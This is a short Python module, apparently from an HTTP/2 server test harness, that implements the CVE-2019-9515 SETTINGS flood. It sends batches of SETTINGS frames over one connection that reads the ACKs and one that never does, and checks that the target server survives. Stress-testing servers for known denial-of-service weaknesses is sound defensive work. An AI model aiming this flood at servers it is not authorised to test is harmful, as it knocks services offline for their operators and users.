"""SETTINGS flood (CVE-2019-9515): SETTINGS frames as fast as the socket takes them, each of
which the server must ACK (RFC 9113 §6.5.3). One connection reads the ACKs, one never reads.
Expected: the server survives; it may stop the flooder with GOAWAY ENHANCE_YOUR_CALM."""

import h2wire
from attack import Attack, Outcome
from attacks.flood import describe, flood

BATCH = 500


def run(ctx):
    one = h2wire.settings(initial_window_size=65535, enable_push=0)
    res = flood(ctx, reading=1, silent=1, setup=b"", batch=lambda c, n: one * BATCH,
                per_batch=BATCH)
    return Outcome(describe(res, "SETTINGS"))


ATTACK = Attack("settings_flood", "endless SETTINGS frames (one reader, one non-reader)", run)
